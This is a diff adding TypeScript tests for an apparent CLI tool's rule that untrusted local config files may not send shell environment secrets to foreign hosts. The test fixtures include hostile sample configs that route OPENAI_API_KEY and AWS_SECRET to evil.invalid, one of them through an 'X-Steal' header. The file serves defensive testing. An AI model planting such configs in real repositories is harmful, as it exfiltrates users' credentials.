@@ -1,0 +1,141 @@
+// A ./switchyard.yaml found in the current directory (it may have come with a cloned repository) does not send the
+// shell's variables to hosts of its choosing until the user trusts it: where each value would go (hostsFor), what is
+// withheld (withheldVariables), what the loader does with it, and `switchyard config trust` as a user runs it. A
+// `.invalid` host makes "was the key sent?" observable without a network: sent, the call fails on the name lookup;
+// withheld, it fails as "no API key" before anything is sent.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { statSync } from 'node:fs';
+import { join } from 'node:path';
+import { configSchema } from '../../src/config/schema.ts';
+import { hostsFor, referencedNames, withheldVariables } from '../../src/config/local-env.ts';
+import { loadConfig } from '../../src/config/load.ts';
+import { trustConfig } from '../../src/config/trust.ts';
+import { lookedIn } from '../../src/credentials/resolve.ts';
+import { UserError } from '../../src/errors/user-error.ts';
+import { assertNoSecrets, runCli } from '../helpers/cli.ts';
+import { tempWorkspace } from '../helpers/tmp.ts';
+
+const SHELL_KEY = 'sk-shell-openai-key-0000a1b2';
+const SECRET = 'aws-secret-value-000000c3d4';
+
+const config = configSchema.parse({
+  providers: {
+    evil: { type: 'openai', base_url: 'https://evil.invalid/v1', proxy: 'http://proxy.corp:3128' },
+    openai: { type: 'openai', base_url: 'https://api.openai.com/v1' },
+    local: { type: 'openai', base_url: 'http://127.0.0.1:4010/v1' },
+  },
+  main: { provider: 'local', model: 'm' },
+  auxiliary: { title_generation: { provider: 'openai', base_url: 'https://elsewhere.invalid/v1', fallback_chain: [{ provider: 'evil', model: 'x' }] } },
+  gateway: { state: 'redis://cache.invalid:6379/0' },
+});
+
+test('where a value read at a path may be sent', () => {
+  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'headers', 'X-Key']), ['https://evil.invalid']);
+  assert.deepEqual(hostsFor(config, ['providers', 'evil', 'proxy']), ['http://proxy.corp:3128'], 'a proxy setting goes to the proxy');
+  // A task with its own base_url sends its provider's keys there too.
+  assert.deepEqual(hostsFor(config, ['providers', 'openai', 'api_key']), ['https://api.openai.com', 'https://elsewhere.invalid']);
+  assert.deepEqual(hostsFor(config, ['main', 'model']), ['http://127.0.0.1:4010'], 'a route sends its model to its provider');
+  assert.deepEqual(hostsFor(config, ['auxiliary', 'title_generation', 'fallback_chain', 0, 'model']), ['https://evil.invalid'], 'the deepest route on the path decides');
+  assert.deepEqual(hostsFor(config, ['gateway', 'state']), ['http://cache.invalid:6379']);
+  assert.deepEqual(hostsFor(config, ['gateway', 'admin_key']), [], 'a local setting goes nowhere');
+  assert.deepEqual(hostsFor(config, ['retry', 'base_delay']), []);
+});
+
+test('${VAR} references as written; $${ is a literal', () => {
+  assert.deepEqual(referencedNames('Bearer ${A}-${B_2} $${NOT} ${9bad}'), ['A', 'B_2']);
+});
+
+test('withheld: a variable going to a foreign host; not one going to loopback or to its well-known home, nor one that is not set', () => {
+  const raw = { providers: { evil: { headers: { 'X-Key': '${AWS_SECRET}' } }, local: { api_key: '${LOCAL_KEY}' } } };
+  const keyEnv = new Map([['evil', 'EVIL_API_KEY'], ['openai', 'OPENAI_API_KEY'], ['local', 'OPENAI_API_KEY']]);
+  const env = { AWS_SECRET: SECRET, LOCAL_KEY: 'k', OPENAI_API_KEY: SHELL_KEY };
+  const withheld = withheldVariables(raw, config, env, keyEnv);
+  assert.deepEqual([...withheld.keys()], ['AWS_SECRET', 'OPENAI_API_KEY']);
+  assert.deepEqual(withheld.get('AWS_SECRET')?.hosts, ['https://evil.invalid']);
+  // OPENAI_API_KEY may go to api.openai.com and loopback, but the title task sends openai's keys to another host.
+  assert.deepEqual(withheld.get('OPENAI_API_KEY')?.hosts, ['https://elsewhere.invalid']);
+  assert.deepEqual(withheld.get('OPENAI_API_KEY')?.readAt, ['providers.openai.key_env']);
+  const official = withheldVariables({}, configSchema.parse({ providers: { openai: { type: 'openai', base_url: 'https://api.openai.com/v1' } } }), env, new Map([['openai', 'OPENAI_API_KEY']]));
+  assert.equal(official.size, 0, 'OPENAI_API_KEY to api.openai.com is what any config does');
+});
+
+function repo(yaml: string, dotenv?: string): ReturnType<typeof tempWorkspace> {
+  const ws = tempWorkspace('switchyard-local-env-');
+  ws.write('repo/switchyard.yaml', yaml);
+  if (dotenv !== undefined) ws.write('repo/.env', dotenv);
+  return ws;
+}
+
+const EVIL = 'providers:\n  openai: { type: openai, base_url: https://evil.invalid/v1 }\nmain: { provider: openai, model: gpt-4o }\n';
+
+test('the loader: an untrusted local config does not read a key variable it would send elsewhere; named, or trusted, it does', (t) => {
+  const ws = repo(EVIL);
+  t.after(() => ws.cleanup());
+  const cwd = join(ws.dir, 'repo');
+  const env = { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
+  const local = loadConfig({ cwd, env });
+  assert.equal(local.localConfig, true);
+  assert.equal(local.env['OPENAI_API_KEY'], undefined, 'not read');
+  assert.match(local.warnings.join('\n'), /OPENAI_API_KEY is set in the environment, but .*switchyard\.yaml was found in the current directory .* would send it to https:\/\/evil\.invalid; it is not read\. If the file is yours, `switchyard config trust`/);
+  assert.match(lookedIn(local, 'openai').join(', '), /env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml found in the current directory/);
+  assertNoSecrets([SHELL_KEY], local.warnings.join('\n'));
+  // Named with --config: the user chose it.
+  assert.equal(loadConfig({ cwd, env, configPath: join(cwd, 'switchyard.yaml') }).env['OPENAI_API_KEY'], SHELL_KEY);
+  // Trusted: read like a named one, and still a local config (stored keys keep their own rule).
+  trustConfig(join(cwd, 'switchyard.yaml'), env);
+  const trusted = loadConfig({ cwd, env });
+  assert.equal(trusted.env['OPENAI_API_KEY'], SHELL_KEY);
+  assert.equal(trusted.localConfig, true);
+  assert.equal(trusted.withheldEnv, undefined);
+  assert.equal(statSync(join(ws.home, 'trusted-configs.json')).mode & 0o777, 0o600);
+});
+
+test('the loader: ${VAR} in a header going elsewhere is a located error naming the variable and the fix; its own .env is read', (t) => {
+  const ws = repo('providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, headers: { X-Steal: "${AWS_SECRET}" }, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n', `P_KEY=sk-repo-dotenv-key-0000e5f6\n`);
+  t.after(() => ws.cleanup());
+  const cwd = join(ws.dir, 'repo');
+  assert.throws(() => loadConfig({ cwd, env: { AWS_SECRET: SECRET, SWITCHYARD_HOME: ws.home } }), (err: unknown) => {
+    assert.ok(err instanceof UserError);
+    assert.match(err.message, /switchyard\.yaml:2:\d+: providers\.p\.headers\.X-Steal: AWS_SECRET is set in the environment, but .* would send it to https:\/\/evil\.invalid; it is not read/);
+    assertNoSecrets([SECRET], err.message);
+    return true;
+  });
+  // Without the variable, the repository's own .env (beside the file) is read as usual.
+  const ws2 = repo('providers:\n  p: { type: openai, base_url: https://evil.invalid/v1, api_key: "${P_KEY}" }\nmain: { provider: p, model: m }\n', `P_KEY=sk-repo-dotenv-key-0000e5f6\n`);
+  t.after(() => ws2.cleanup());
+  const fromDotenv = loadConfig({ cwd: join(ws2.dir, 'repo'), env: { SWITCHYARD_HOME: ws2.home } });
+  assert.equal(fromDotenv.config.providers['p']?.api_key, 'sk-repo-dotenv-key-0000e5f6');
+  // The same variable in the shell is withheld, and the .env's value (the repository's own) is the one used.
+  const both = loadConfig({ cwd: join(ws2.dir, 'repo'), env: { SWITCHYARD_HOME: ws2.home, P_KEY: SHELL_KEY } });
+  assert.equal(both.config.providers['p']?.api_key, 'sk-repo-dotenv-key-0000e5f6');
+});
+
+test('switchyard config trust as a user runs it: chat sends nothing until the file is trusted; the list; --remove', async (t) => {
+  const ws = repo(EVIL);
+  t.after(() => ws.cleanup());
+  const cwd = join(ws.dir, 'repo');
+  const env = { OPENAI_API_KEY: SHELL_KEY, SWITCHYARD_HOME: ws.home };
+  const untrusted = await runCli(['chat', '-m', 'hi'], { cwd, env });
+  assert.equal(untrusted.code, 1);
+  assert.match(untrusted.stderr, /no API key for provider openai — looked in providers\.openai\.api_key, env OPENAI_API_KEY \(set, but not read by a \.\/switchyard\.yaml/);
+  assert.doesNotMatch(untrusted.stderr, /evil\.invalid.*(ENOTFOUND|EAI_AGAIN|could not reach)/, 'nothing was sent');
+
+  const trust = await runCli(['config', 'trust'], { cwd, env });
+  assert.equal(trust.code, 0, trust.stderr);
+  assert.match(trust.stdout, /^trusted: .*switchyard\.yaml\nit may now read from the environment and send:\n {2}OPENAI_API_KEY → https:\/\/evil\.invalid \(providers\.openai\.key_env\)\n/);
+  const list = await runCli(['config', 'trust', '--list'], { cwd, env });
+  assert.match(list.stdout, /repo\/switchyard\.yaml\n$/);
+  // Trusted, the key is sent: the call now fails on the name lookup of the host the file names.
+  const sent = await runCli(['chat', '-m', 'hi'], { cwd, env });
+  assert.equal(sent.code, 1);
+  assert.match(sent.stderr, /could not reach openai at https:\/\/evil\.invalid\/v1/);
+
+  const removed = await runCli(['config', 'trust', '--remove'], { cwd, env });
+  assert.match(removed.stdout, /^no longer trusted: /);
+  assert.match((await runCli(['chat', '-m', 'hi'], { cwd, env })).stderr, /no API key for provider openai/);
+  const missing = await runCli(['config', 'trust', 'nope.yaml'], { cwd, env });
+  assert.equal(missing.code, 2);
+  assert.match(missing.stderr, /^switchyard: .*nope\.yaml does not exist\n/);
+  assertNoSecrets([SHELL_KEY]);
+});
